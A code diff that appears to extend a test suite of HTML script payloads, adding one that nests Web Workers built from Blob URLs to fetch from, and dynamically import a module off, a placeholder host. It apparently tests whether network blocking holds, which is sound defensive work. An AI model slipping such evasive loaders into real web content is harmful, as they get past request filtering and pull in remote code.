@@ -174,6 +174,13 @@ TRICKS = (
         "<script>new Worker(URL.createObjectURL(new Blob(["
         "\"fetch('http://' + '@IP@/t29').catch(function () {})\"])))</script>",
     ),
+    Trick(  # a worker made by a worker from a blob, fetching and importing by address
+        "worker-nested",
+        "<script>var inner = \"fetch('http://' + '@IP@/t44').catch(function () {});"
+        " import('http://' + '@IP@/t45.mjs').catch(function () {})\";"
+        "var outer = 'new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '])))';"
+        "new Worker(URL.createObjectURL(new Blob([outer])))</script>",
+    ),
 )
 SERVICE_WORKER = "self.addEventListener('install', function () { fetch('http://@IP@/t17') });"
 
